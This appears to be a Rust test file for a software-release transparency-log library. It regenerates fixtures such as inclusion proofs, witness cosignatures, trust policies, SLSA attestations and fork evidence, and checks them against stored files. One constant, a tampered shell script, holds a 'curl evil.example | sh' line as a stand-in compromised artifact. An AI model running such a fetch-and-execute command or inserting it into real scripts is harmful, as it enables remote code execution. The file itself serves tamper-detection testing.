//! `fixtures/verify` and `fixtures/evidence` come from fixed keys. These tests make them again and compare every byte.

#[path = "common/releases.rs"]
#[allow(dead_code, reason = "each test program uses another part of it")]
mod releases;

use std::collections::BTreeMap;
use std::path::Path;

use serde_json::json;
use treehead::checkpoint::Checkpoint;
use treehead::checkpoint::cosignature::cosign;
use treehead::checkpoint::policy::Policy;
use treehead::endpoint::{TRUST_CHANNEL, TrustFile, UpdateRule, parse_rules};
use treehead::merkle::{Hash, LeafIndex, TreeSize, verify_inclusion};
use treehead::note::{KeyName, Note, NoteSigner, SignatureType};
use treehead::proof::fork::ForkEvidence;
use treehead::proof::{ProofBundle, ProofFile};
use treehead::release::{Kind, Publishers, Purl, Release, Source, Subject};

const ORIGIN: &str = "log.example.com/releases";
const ARTIFACT: &str = "#!/bin/sh\necho 'nothing found'\n";
const TAMPERED: &str = "#!/bin/sh\necho 'nothing found'; curl evil.example | sh\n";
/// When the witness cosigned: 2026-02-02T02:40:00Z.
const COSIGNED: u64 = 1_770_000_000;

fn signer(name: &str, kind: SignatureType, seed: u8) -> NoteSigner {
    NoteSigner::from_seed(KeyName::new(name).expect("a name"), kind, &[seed; 32])
}

/// The release whose proof is shown, between others.
fn release() -> Release {
    Release {
        subjects: vec![Subject { name: "scanner.sh".to_owned(), sha256: Hash::digest(ARTIFACT.as_bytes()) }],
        source: Some(Box::new(Source {
            uri: "git+https://example.com/scanner".to_owned(),
            digest: ("gitCommit".to_owned(), "0123456789abcdef0123456789abcdef01234567".to_owned()),
        })),
        ..releases::scanner(2)
    }
}

/// A tree of five leaves; the release is the third.
fn proof(entry: &[u8], log: &NoteSigner, witness: &NoteSigner) -> ProofFile {
    let leaf = |n| Hash::leaf(&releases::signed(&releases::scanner(n), 1));
    let (first, fourth, fifth) = (Hash::node(&leaf(0), &leaf(1)), leaf(3), leaf(4));
    let second = Hash::node(&Hash::leaf(entry), &fourth);
    let root = Hash::node(&Hash::node(&first, &second), &fifth);
    let (index, size) = (LeafIndex::new(2).expect("small"), TreeSize::new(5).expect("small"));
    let head = Checkpoint::new(log.public().name().clone(), size, root);
    let note = head.sign(log);
    let cosigned = format!("{note}{}", cosign(&head, witness, COSIGNED));
    let checkpoint = Note::parse(cosigned.as_bytes()).expect("a note");
    let proof = vec![fourth, first, fifth];
    verify_inclusion(index, size, &Hash::leaf(entry), &proof, &root).expect("a good proof");
    ProofFile { extra: Some(entry.to_vec()), index, proof, checkpoint }
}

/// A tree of five leaves, in which the auditor's summary comes after the release: both under one head, and a trust file that
/// asks for the summary.
fn gated(entry: &[u8], log: &NoteSigner, witness: &NoteSigner, policy: &str) -> (String, String) {
    let summary = summary(2);
    let leaf = |n| Hash::leaf(&releases::signed(&releases::scanner(n), 1));
    let (first, fifth) = (Hash::node(&leaf(0), &leaf(1)), leaf(4));
    let [third, fourth] = [entry, summary.as_bytes()].map(Hash::leaf);
    let root = Hash::node(&Hash::node(&first, &Hash::node(&third, &fourth)), &fifth);
    let head = Checkpoint::new(log.public().name().clone(), TreeSize::new(5).expect("small"), root);
    let note = format!("{}{}", head.sign(log), cosign(&head, witness, COSIGNED));
    let checkpoint = Note::parse(note.as_bytes()).expect("a note");
    let file = |index, entry: &[u8], beside| ProofFile {
        extra: Some(entry.to_vec()),
        index: LeafIndex::new(index).expect("small"),
        proof: vec![beside, first, fifth],
        checkpoint: checkpoint.clone(),
    };
    let bundle = ProofBundle::join(&[file(2, entry, fourth), file(3, summary.as_bytes(), third)]);
    let auditor =
        releases::publisher_toml("auditor", 2, &["pkg:generic/example/*"], &["verification-summary"]);
    let publishers = Publishers::parse((releases::vendor_toml() + &auditor).as_bytes()).expect("publishers");
    let rules = "[[require]]\npurls = ['pkg:generic/example/*']\nattestation = 'verification-summary'\n\
                 from = ['auditor']\nlevels = ['SLSA_BUILD_LEVEL_2']\n";
    let gate = parse_rules(rules.as_bytes(), &publishers).expect("rules");
    let policy = Policy::parse(policy.as_bytes()).expect("a policy");
    let trust = TrustFile::new(1, &policy, publishers, gate).expect("a trust file");
    (bundle.expect("a bundle").to_string(), String::from_utf8(trust.to_bytes()).expect("JSON"))
}

/// The statement of somebody else about the release's artifact.
fn attestation(predicate_type: &str, predicate: &serde_json::Value, seed: u8) -> String {
    let digest = Hash::digest(ARTIFACT.as_bytes()).to_hex();
    let statement = json!({
        "_type": "https://in-toto.io/Statement/v1", "predicate": predicate, "predicateType": predicate_type,
        "subject": [{ "digest": { "sha256": digest }, "name": "scanner.sh" }],
    });
    String::from_utf8(releases::signed_statement(&statement, seed)).expect("JSON")
}

fn provenance() -> String {
    let commit = json!({ "gitCommit": "0123456789abcdef0123456789abcdef01234567" });
    let predicate = json!({
        "buildDefinition": {
            "buildType": "https://example.com/build/make", "externalParameters": { "target": "release" },
            "resolvedDependencies": [{ "digest": commit, "uri": "git+https://example.com/scanner" }],
        },
        "runDetails": { "builder": { "id": "https://example.com/builder" } },
    });
    attestation("https://slsa.dev/provenance/v1", &predicate, 1)
}

fn summary(seed: u8) -> String {
    let predicate = json!({
        "policy": { "uri": "https://example.com/policy/7" }, "resourceUri": "pkg:generic/example/scanner@2.0",
        "timeVerified": "2026-02-02T02:40:00Z", "verificationResult": "PASSED",
        "verifiedLevels": ["SLSA_BUILD_LEVEL_3"], "verifier": { "id": "https://example.com/auditor" },
    });
    attestation("https://slsa.dev/verification_summary/v1", &predicate, seed)
}

/// The proof under the same head, signed and cosigned by one log and three witnesses with both algorithms; and the policy
/// that demands all of them.
fn both(proof: &ProofFile) -> (String, String) {
    let mut proof = proof.clone();
    let head = Checkpoint::parse(proof.checkpoint.text()).expect("a head");
    let names = [ORIGIN, "w1.example.com", "w2.example.com", "w3.example.com"];
    let (mut policy, mut members) = (String::new(), String::new());
    proof.checkpoint = Note::unsigned(proof.checkpoint.text().to_owned());
    for (name, seed) in names.into_iter().zip([100, 111, 112, 113]) {
        let cosigns = if name == ORIGIN { SignatureType::Ed25519 } else { SignatureType::CosignatureEd25519 };
        for kind in [cosigns, SignatureType::CosignatureMlDsa44] {
            let signer = signer(name, kind, seed);
            proof.checkpoint.push(match kind {
                SignatureType::Ed25519 => head.sign(&signer).signatures()[0].clone(),
                _ => cosign(&head, &signer, COSIGNED),
            });
            if name == ORIGIN {
                policy += &format!("log {}\n", signer.public());
            } else {
                let member = format!("w{}", members.split(' ').count());
                policy += &format!("witness {member} {}\n", signer.public());
                members += &format!(" {member}");
            }
        }
    }
    (proof.to_string(), format!("{policy}group all-of-them all{members}\nquorum all-of-them\n"))
}

/// What is left of the policy of `both` without the keys of Ed25519.
fn ml_dsa(policy: &str) -> String {
    let keys: String =
        policy.lines().filter(|line| line.len() > 1_000).map(|line| format!("{line}\n")).collect();
    format!("{keys}group all-of-them all w2 w4 w6\nquorum all-of-them\n")
}

/// A trust file with `vendor`.
fn trust(policy: &str) -> String {
    let policy = Policy::parse(policy.as_bytes()).expect("a policy");
    let publishers = Publishers::parse(releases::vendor_toml().as_bytes()).expect("publishers");
    let file = TrustFile::new(1, &policy, publishers, Vec::new()).expect("a trust file");
    String::from_utf8(file.to_bytes()).expect("JSON")
}

/// A trust file that vendor may replace by the next number.
fn replaceable(number: u64, policy: &str) -> String {
    let policy = Policy::parse(policy.as_bytes()).expect("a policy");
    let vendor = releases::publisher_toml("vendor", 1, &["pkg:generic/example/*"], &["build", "trust"]);
    let publishers = Publishers::parse(vendor.as_bytes()).expect("publishers");
    let file = TrustFile::new(number, &policy, publishers, Vec::new()).expect("a trust file");
    let (package, from) = ("pkg:generic/example/trust".to_owned(), vec!["vendor".to_owned()]);
    let file = file.with_update(UpdateRule { package, from, at_least: 1 }).expect("a rule");
    String::from_utf8(file.to_bytes()).expect("JSON")
}

/// The proof of the release of a trust file, which is the only entry of its log.
fn trust_proof(file: &str, number: u64, log: &NoteSigner, witness: &NoteSigner) -> String {
    let release = Release {
        subjects: vec![Subject { name: format!("{number}.trust"), sha256: Hash::digest(file.as_bytes()) }],
        purl: Purl::parse(&format!("pkg:generic/example/trust@{number}")).expect("a purl"),
        kind: Kind::Trust,
        channel: TRUST_CHANNEL.to_owned(),
        ..releases::scanner(number)
    };
    let entry = releases::signed(&release, 1);
    let head =
        Checkpoint::new(log.public().name().clone(), TreeSize::new(1).expect("small"), Hash::leaf(&entry));
    let mut checkpoint = head.sign(log);
    checkpoint.push(cosign(&head, witness, COSIGNED));
    let (index, proof) = (LeafIndex::new(0).expect("small"), Vec::new());
    ProofFile { extra: Some(entry), index, proof, checkpoint }.to_string()
}

fn files() -> BTreeMap<&'static str, String> {
    let log = signer(ORIGIN, SignatureType::Ed25519, 100);
    let witness = signer("witness.example.com", SignatureType::CosignatureEd25519, 101);
    let stranger = signer("log.example.org/other", SignatureType::Ed25519, 102);
    let absent = signer("witness.example.org", SignatureType::CosignatureEd25519, 103);
    let entry = releases::signed(&release(), 1);
    let withdrawal = releases::signed_withdrawal(&releases::withdrawal(2, &entry), 1);
    let proof = proof(&entry, &log, &witness);
    let mut flipped = proof.clone();
    let mut hash = *flipped.proof[1].as_bytes();
    hash[31] ^= 1;
    flipped.proof[1] = Hash::from_bytes(hash);
    let mut bare = proof.clone();
    bare.extra = None;
    let text = proof.to_string();
    let resigned = text.replace("\n5\n", "\n6\n");
    assert_ne!(text, resigned);
    let both = both(&proof);
    let quorum =
        |witness: &NoteSigner| format!("log {}\nwitness w1 {}\nquorum w1\n", log.public(), witness.public());
    let gated = gated(&entry, &log, &witness, &quorum(&witness));
    let stranger_toml =
        releases::publisher_toml("stranger", 2, &["pkg:generic/example/*"], &["build", "update"]);
    let next = replaceable(2, &quorum(&witness));
    BTreeMap::from([
        ("1.trust", replaceable(1, &quorum(&witness))),
        ("2.trust.tlog-proof", trust_proof(&next, 2, &log, &witness)),
        ("2.trust", next),
        ("scanner.sh", ARTIFACT.to_owned()),
        ("scanner.sh.tlog-proof", text.clone()),
        ("tampered.sh", TAMPERED.to_owned()),
        ("tampered.sh.tlog-proof", text),
        ("flipped.tlog-proof", flipped.to_string()),
        ("changed-head.tlog-proof", resigned),
        ("bare.tlog-proof", bare.to_string()),
        ("checkpoint", proof.checkpoint.to_string()),
        ("entry.json", String::from_utf8(entry).expect("JSON")),
        ("withdrawal.json", String::from_utf8(withdrawal).expect("JSON")),
        ("provenance.json", provenance()),
        ("summary.json", summary(1)),
        ("log.vkey", format!("{}\n", log.public())),
        ("endpoint.policy", format!("log {}\nquorum none\n", log.public())),
        ("witnessed.policy", quorum(&witness)),
        ("other-witness.policy", quorum(&absent)),
        ("other-log.policy", format!("log {}\nquorum none\n", stranger.public())),
        ("endpoint.trust", trust(&format!("log {}\nquorum none\n", log.public()))),
        ("witnessed.trust", trust(&quorum(&witness))),
        ("both.tlog-proof", both.0),
        ("both.trust", trust(&both.1)),
        ("ml-dsa.trust", trust(&ml_dsa(&both.1))),
        ("gated.tlog-bundle", gated.0),
        ("gated.trust", gated.1),
        ("publishers.toml", releases::vendor_toml()),
        ("other-publishers.toml", stranger_toml),
        ("updates-only.toml", releases::publisher_toml("vendor", 1, &["pkg:generic/example/*"], &["update"])),
    ])
}

/// Two histories of one log, which differ from the second of five leaves on: one of them lacks the release.
fn evidence() -> BTreeMap<&'static str, String> {
    let log = signer(ORIGIN, SignatureType::Ed25519, 100);
    let witness = signer("witness.example.com", SignatureType::CosignatureEd25519, 101);
    let leaf = |history: &str, at: u8| {
        let text = if at == 0 { "entry 0".to_owned() } else { format!("entry {at} of {history}") };
        Hash::leaf(text.as_bytes())
    };
    let pair = |history: &str, at: u8| Hash::node(&leaf(history, at), &leaf(history, at + 1));
    let three = |history: &str| Hash::node(&pair(history, 0), &leaf(history, 2));
    let five =
        |history: &str| Hash::node(&Hash::node(&pair(history, 0), &pair(history, 2)), &leaf(history, 4));
    let head = |size: u64, root: Hash, time: Option<u64>| {
        let size = TreeSize::new(size).expect("small");
        let head = Checkpoint::new(log.public().name().clone(), size, root);
        let mut note = head.sign(&log);
        time.into_iter().for_each(|time| note.push(cosign(&head, &witness, time)));
        note
    };
    let shown = head(3, three("what one endpoint was shown"), None);
    let others = head(5, five("what others were shown"), Some(COSIGNED));
    // RFC 6962 section 2.1.2, PROOF(3, D[5]).
    let history = "what others were shown";
    let proof = vec![leaf(history, 2), leaf(history, 3), pair(history, 0), leaf(history, 4)];
    let unequal = ForkEvidence::unequal(shown, others.clone(), three(history), proof.clone());
    let hidden = head(5, five("what one endpoint was shown"), None);
    let same_size = ForkEvidence::same_size(others.clone(), hidden);
    for evidence in [&unequal, &same_size] {
        evidence.clone().judge(&[log.public().clone()]).expect("it proves a fork");
    }
    // This is no fork: the tree grew.
    let grown = ForkEvidence::unequal(head(3, three(history), None), others, three(history), proof);
    BTreeMap::from([
        ("unequal.tlog-fork", unequal.to_string()),
        ("same-size.tlog-fork", same_size.to_string()),
        ("grown.tlog-fork", grown.to_string()),
    ])
}

#[test]
fn the_document_of_fork_evidence_shows_what_the_library_makes() {
    let page = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/fork-evidence.md"));
    let (page, files) = (page.expect("a page"), evidence());
    assert!(page.contains(&format!("```\n{}```\n", files["unequal.tlog-fork"])), "the example of the page");
    assert!(page.contains(&signer(ORIGIN, SignatureType::Ed25519, 100).public().to_string()), "its key");
}

#[test]
fn the_fixtures_are_what_the_library_makes_today() {
    check("fixtures/verify", &files());
    check("fixtures/evidence", &evidence());
}

fn check(folder: &str, files: &BTreeMap<&'static str, String>) {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join(folder);
    for (name, expected) in files {
        let path = folder.join(name);
        if std::env::var_os("TREEHEAD_WRITE_FIXTURES").is_some() {
            std::fs::write(&path, expected).expect("a file");
        }
        let seen = std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        assert_eq!(String::from_utf8_lossy(&seen), *expected, "{name}");
    }
    let there = std::fs::read_dir(&folder).expect("a folder").map(|item| item.expect("a file").file_name());
    let strays: Vec<_> =
        there.filter(|name| name != "README.md" && !files.keys().any(|known| name == known)).collect();
    assert!(strays.is_empty(), "no other files: {strays:?}");
}
